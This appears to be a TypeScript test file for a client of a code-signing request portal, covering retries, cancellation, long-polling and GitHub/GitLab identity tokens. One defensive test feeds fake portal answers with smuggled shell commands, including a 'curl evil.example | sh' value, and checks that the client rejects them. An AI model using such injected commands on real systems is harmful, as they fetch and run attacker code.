import { randomBytes } from 'node:crypto';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { fetchIdentityToken, hasIdentityToken, identityToken } from './identity-token.ts';
import type { Patience } from './patience.ts';
import { FakePortal, sha256Of } from './portal.fixture.ts';
import { readRequest } from './request-view.ts';
import { cancel, listRequests, resubmit, submit } from './requests.ts';
import { waitFor } from './wait.ts';

let portal: FakePortal;
let pauses = 0;
const sleep: NonNullable<Patience['sleep']> = async () => void (pauses += 1);
const patience: Patience = { seconds: 60, sleep };

beforeEach(async () => {
  portal = await FakePortal.start();
  pauses = 0;
});
afterEach(() => portal.stop());

const me = () => ({ url: portal.url, token: 'csn_x' });
const id = '0190b0f0-0000-7000-8000-000000000001';

describe('a submission', () => {
  it('whose answer is lost is sent again, and asks once', async () => {
    const bytes = randomBytes(10);
    portal.stored.set(sha256Of(bytes), bytes);
    let lost = false;
    portal.before = (request) => {
      if (lost) return false;
      lost = true;
      request.socket.destroy();
      return true;
    };
    const submission = { project: 'a', policy: 'b', artifact: { sha256: sha256Of(bytes), name: 'x' } };
    const first = await submit(me(), submission, { patience });
    const second = await submit(me(), submission, { patience });
    expect([first.created, second.created, second.id]).toEqual([true, false, first.id]);
    expect(pauses).toBe(1);
  });

  it('is repeated, cancelled and listed', async () => {
    portal.set(id, 'waiting-for-approval');
    const again = await resubmit(me(), id, { again: { policy: 'other' }, patience });
    expect(portal.requests.get(again.id)?.submission).toEqual({ policy: 'other' });
    await cancel(me(), id, { reason: 'a newer one', patience });
    portal.set(again.id, 'completed');
    await expect(cancel(me(), again.id, { reason: 'late', patience })).rejects.toMatchObject({
      code: 'REFUSED',
      problem: { status: 409 },
    });
    const { requests, more } = await listRequests(me(), { project: 'a', status: 'denied', limit: 1 });
    expect([requests[0]?.id, more]).toEqual([id, false]);
    expect(portal.asked.at(-1)?.[1]).toBe('/api/v1/requests?limit=1&project=a&status=denied');
  });
});

describe('an answer of a portal in wrong hands', () => {
  it('puts no commands into the outputs of a workflow', async () => {
    const answers = [
      { id: `${id}"; curl evil.example | sh; "`, status: 'received' },
      { id, status: 'completed`id`' },
    ];
    for (const answer of answers) {
      portal.before = (_request, response) => {
        response.writeHead(200, { 'content-type': 'application/json' });
        const whole = {
          ...answer,
          url: 'x',
          summary: null,
          trace: { passes: [] },
          project: 'a',
          policy: 'b',
        };
        response.end(JSON.stringify({ ...whole, requests: [whole], next: null }));
        return true;
      };
      const refused = { code: 'NOT_A_PORTAL' };
      await expect(readRequest(me(), id)).rejects.toMatchObject(refused);
      await expect(listRequests(me(), { limit: 1 })).rejects.toMatchObject(refused);
      if (answer.id !== id) await expect(resubmit(me(), id, { again: {} })).rejects.toMatchObject(refused);
    }
  });
});

describe('waiting', () => {
  it('asks a portal that holds looks once for each change', async () => {
    portal.set(id, 'checking');
    const told: string[] = [];
    setTimeout(() => portal.set(id, 'signing'), 450);
    setTimeout(() => portal.set(id, 'completed'), 900);
    const view = await waitFor(me(), id, {
      timeoutSeconds: 60,
      onState: (state) => told.push('status' in state ? state.status : state.message),
    });
    expect([view.status, told]).toEqual(['completed', ['checking', 'signing', 'completed']]);
    expect(portal.asked.length).toBeLessThan(9);
    expect(portal.headers[1]).toMatchObject({
      prefer: expect.stringMatching(/^wait=\d+$/) as string,
      'if-none-match': '"1"',
    });
  });

  it('asks another one now and then', async () => {
    portal.lacks.add('waiting');
    portal.set(id, 'checking');
    portal.onLook = () => {
      if (portal.asked.length === 4) portal.set(id, 'denied');
    };
    expect((await waitFor(me(), id, { timeoutSeconds: 60, sleep })).status).toBe('denied');
    expect([portal.asked.length, pauses]).toEqual([4, 3]);
  });

  it('ends at the gate where that is asked for, and always with what is final', async () => {
    portal.set(id, 'waiting-for-approval');
    expect((await waitFor(me(), id, { timeoutSeconds: 60, until: 'gate' })).status).toBe(
      'waiting-for-approval',
    );
    for (const status of ['completed', 'denied', 'failed']) {
      portal.set(id, status);
      expect((await waitFor(me(), id, { timeoutSeconds: 60 })).status).toBe(status);
    }
  });

  it('goes on while the portal can’t be asked, and ends when its time is over', async () => {
    portal.set(id, 'signing');
    portal.before = (request) => {
      if (portal.asked.length % 2 === 0) return false;
      request.socket.destroy();
      return true;
    };
    const told: string[] = [];
    const waited = waitFor(me(), id, {
      timeoutSeconds: 1,
      onState: (state) => told.push('status' in state ? state.status : state.code),
    });
    await expect(waited).rejects.toMatchObject({ code: 'TIMEOUT' });
    expect(told.slice(0, 2)).toEqual(['UNREACHABLE', 'signing']);
  });

  it('for a request that isn’t there ends at once', async () => {
    await expect(waitFor(me(), id, { timeoutSeconds: 60 })).rejects.toMatchObject({ code: 'REFUSED' });
  });

  it('ends with the caller’s signal', async () => {
    portal.set(id, 'signing');
    const stop = new AbortController();
    setTimeout(() => stop.abort(), 50);
    await expect(waitFor(me(), id, { timeoutSeconds: 60, signal: stop.signal })).rejects.toMatchObject({
      code: 'ABORTED',
    });
  });
});

describe('an identity token', () => {
  it('of GitHub is made for the portal alone, and a new one for each signing request', async () => {
    const asked: (readonly [string | undefined, string | undefined])[] = [];
    const host = http.createServer((request, response) => {
      asked.push([request.url, request.headers.authorization]);
      response.end(JSON.stringify({ count: 1, value: `token-${asked.length}` }));
    });
    await new Promise<void>((resolve) => host.listen(0, '127.0.0.1', resolve));
    const { port } = host.address() as AddressInfo;
    const environment = {
      ACTIONS_ID_TOKEN_REQUEST_URL: `http://127.0.0.1:${port}/token?api-version=2.0`,
      ACTIONS_ID_TOKEN_REQUEST_TOKEN: 'secret',
    };
    let now = 0;
    const token = identityToken({ environment, portalUrl: 'https://sign.example.org/' }, () => now);
    if (typeof token !== 'function') throw new Error('it is fetched');
    try {
      expect(hasIdentityToken(environment)).toBe(true);
      expect(await token({ fresh: false })).toBe('token-1');
      expect(await token({ fresh: false })).toBe('token-1');
      expect(await token({ fresh: true })).toBe('token-2');
      now += 61_000;
      expect(await token({ fresh: false })).toBe('token-3');
      expect(asked[0]).toEqual([
        '/token?api-version=2.0&audience=https%3A%2F%2Fsign.example.org',
        'Bearer secret',
      ]);
    } finally {
      host.close();
      host.closeAllConnections();
    }
  });

  it('of GitLab is in the variable', async () => {
    const environment = { COUNTERSIGN_ID_TOKEN: ' a.b.c\n' };
    expect(await fetchIdentityToken({ environment, portalUrl: 'https://sign.example.org' })).toBe('a.b.c');
  });

  it('that a job can’t have is told with how to get one', async () => {
    const environment = { ACTIONS_ID_TOKEN_REQUEST_URL: '' };
    expect(hasIdentityToken(environment)).toBe(false);
    await expect(
      fetchIdentityToken({ environment, portalUrl: 'https://sign.example.org' }),
    ).rejects.toMatchObject({
      code: 'NOT_SIGNED_IN',
      message: expect.stringContaining('id-token: write') as string,
    });
  });

  it('isn’t fetched for what everybody may read', async () => {
    portal.set(id, 'completed');
    const token = async (): Promise<string> => Promise.reject(new Error('asked for'));
    expect((await waitFor({ url: portal.url, token }, id, { timeoutSeconds: 1 })).status).toBe('completed');
  });
});
